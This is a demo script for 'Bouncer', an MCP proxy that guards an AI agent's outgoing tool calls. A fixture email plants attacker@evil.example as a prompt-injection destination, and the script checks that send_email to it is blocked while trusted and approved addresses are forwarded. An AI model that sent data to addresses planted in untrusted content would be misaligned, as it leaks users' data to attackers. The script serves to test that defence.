#!/usr/bin/env bun
/**
 * `npm run demo`: the worked example of SPEC §2.6, live, with no API key and no network. A fixture
 * mailbox server (tests/fixtures/servers/mailbox.ts) holds an email from bob@partner.example whose
 * body plants attacker@evil.example. It runs behind the real `bouncer run`, driven by a scripted MCP
 * client (the SDK's `Client`) that plays the agent and, when Bouncer asks, a person who reads the
 * question for half a second and accepts. The same `send_email` is then forwarded for the trusted
 * address, blocked for the planted one, and asked about for the sender. Prints a short transcript and
 * what the mailbox really sent; exits 1 when a verdict is not the expected one.
 *
 * Everything lives in a temporary `BOUNCER_HOME` (pins, audit log) that is removed afterwards.
 *
 * Source: issue 3 item 7, SPEC §2.6, §3.4.
 */

import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import pc from "picocolors";

const ROOT = resolve(import.meta.dir, "..");
const MAILBOX = join(ROOT, "tests/fixtures/servers/mailbox.ts");
/** How long the scripted person reads a question (longer than the 300 ms of --human-min-ms). */
const READING_MS = 500;
/** A guard against a hang, never a measurement. */
const HANG_GUARD_MS = 60_000;

const POLICY = `# The demo's policy: send_email sends data out; its destination is "to".
send_email:
  exfiltrating: true
  sink_params: [to]
  trusted_destinations: [boss@corp.example]
`;

/** One step's expectation and what happened. */
interface Step {
  readonly to: string;
  readonly expect: "forwarded" | "blocked";
  readonly expectAsk: boolean;
}

const STEPS: readonly Step[] = [
  { to: "boss@corp.example", expect: "forwarded", expectAsk: false },
  { to: "attacker@evil.example", expect: "blocked", expectAsk: false },
  { to: "bob@partner.example", expect: "forwarded", expectAsk: true },
  { to: "bob@partner.example", expect: "forwarded", expectAsk: false },
];

const NOTES: readonly string[] = [
  "trusted in the policy",
  "planted in the email's body",
  "the email's sender: seen as a field, not trusted",
  "the same sender again: the approval is remembered",
];

function say(line = ""): void {
  process.stdout.write(`${line}\n`);
}

function indent(text: string, prefix: string): string {
  return text
    .split("\n")
    .map((line) => `${prefix}${line}`)
    .join("\n");
}

function textOf(result: unknown): string {
  const content = (result as { content?: { type: string; text?: string }[] }).content ?? [];
  return content.map((block) => (block.type === "text" ? (block.text ?? "") : `[${block.type}]`)).join("\n");
}

async function guarded<T>(promise: Promise<T>, what: string): Promise<T> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const guard = new Promise<never>((_, reject) => {
    timer = setTimeout(
      () => reject(new Error(`${what} did not finish within ${HANG_GUARD_MS} ms`)),
      HANG_GUARD_MS,
    );
  });
  try {
    return await Promise.race([promise, guard]);
  } finally {
    clearTimeout(timer);
  }
}

/**
 * Runs the demo.
 * @param work - The temporary folder (home, policy, sent file).
 * @returns True when every verdict was the expected one.
 */
async function demo(work: string): Promise<boolean> {
  const home = join(work, "home");
  const policy = join(work, "bouncer.yaml");
  const sentFile = join(work, "sent.jsonl");
  writeFileSync(policy, POLICY);
  const args = [
    "src/cli.ts",
    "run",
    "--upstream-name",
    "mail",
    "--policy",
    policy,
    "--",
    process.execPath,
    MAILBOX,
  ];
  const transport = new StdioClientTransport({
    command: process.execPath,
    args,
    cwd: ROOT,
    env: { ...(process.env as Record<string, string>), BOUNCER_HOME: home, MAILBOX_SENT_FILE: sentFile },
    stderr: "pipe",
  });
  let stderr = "";
  transport.stderr?.on("data", (chunk: Buffer) => {
    stderr += chunk.toString("utf8");
  });
  const client = new Client(
    { name: "bouncer-demo", version: "1.0.0" },
    { capabilities: { elicitation: {} } },
  );
  let asked = 0;
  client.setRequestHandler(ElicitRequestSchema, async (request) => {
    asked += 1;
    say(pc.yellow("   Bouncer asks the person:"));
    say(pc.dim(indent(String(request.params.message), "   │ ")));
    await new Promise((resolveRead) => setTimeout(resolveRead, READING_MS));
    say(
      pc.yellow(`   The person reads it for ${READING_MS} ms and accepts, remembering it for this session.`),
    );
    return { action: "accept", content: { remember: true } };
  });

  say(pc.bold("Bouncer demo: the same send_email to three destinations (no network, no API key)"));
  say(`  policy:   send_email is exfiltrating, its sink is "to", boss@corp.example is trusted`);
  say(`  upstream: a fixture mailbox behind "bouncer run --upstream-name mail"`);
  say(`  client:   a scripted MCP client; the person answering asks is scripted too`);
  say();
  try {
    await guarded(client.connect(transport), "Connecting through bouncer run");
    const inbox = textOf(await guarded(client.callTool({ name: "read_inbox", arguments: {} }), "read_inbox"));
    say(pc.bold("1. read_inbox") + pc.dim("   (the agent reads untrusted mail)"));
    say(pc.dim(indent(inbox.trimEnd(), "   │ ")));
    let ok = true;
    for (const [index, step] of STEPS.entries()) {
      const before = asked;
      say();
      say(`${pc.bold(`${index + 2}. send_email to ${step.to}`)}${pc.dim(`   (${NOTES[index]})`)}`);
      const result = await guarded(
        client.callTool({
          name: "send_email",
          arguments: { to: step.to, subject: "Invoice 2024-117", body: "Please find the invoice attached." },
        }),
        `send_email to ${step.to}`,
      );
      const blocked = result.isError === true && textOf(result).startsWith("[bouncer blocked]");
      const outcome = blocked ? "blocked" : "forwarded";
      const wasAsked = asked > before;
      const verdict = blocked
        ? pc.red(`   → blocked: ${textOf(result).replace("[bouncer blocked] ", "")}`)
        : pc.green(
            `   → forwarded${wasAsked ? " after the person approved" : " without asking"}: ${textOf(result)}`,
          );
      say(verdict);
      if (outcome !== step.expect || wasAsked !== step.expectAsk) {
        ok = false;
        say(pc.red(`   ✗ expected ${step.expect}${step.expectAsk ? " after an ask" : " without an ask"}`));
      }
    }
    const sent = existsSync(sentFile)
      ? readFileSync(sentFile, "utf8")
          .split("\n")
          .filter((line) => line !== "")
          .map((line) => (JSON.parse(line) as { to: string }).to)
      : [];
    say();
    say(pc.bold("What the mailbox really sent:"));
    for (const to of sent) say(`   to ${to}`);
    const leaked = sent.includes("attacker@evil.example");
    say(
      leaked
        ? pc.red("   ✗ mail went to attacker@evil.example")
        : pc.green("   nothing went to attacker@evil.example"),
    );
    return ok && !leaked && sent.length === 3;
  } catch (error) {
    say(pc.red(`The demo failed: ${error instanceof Error ? error.message : String(error)}`));
    if (stderr !== "")
      say(pc.dim(indent(stderr.trimEnd().split("\n").slice(-15).join("\n"), "   stderr │ ")));
    return false;
  } finally {
    await client.close().catch(() => {});
  }
}

const work = mkdtempSync(join(tmpdir(), "bouncer-demo-"));
try {
  process.exitCode = (await demo(work)) ? 0 : 1;
} finally {
  rmSync(work, { recursive: true, force: true });
}
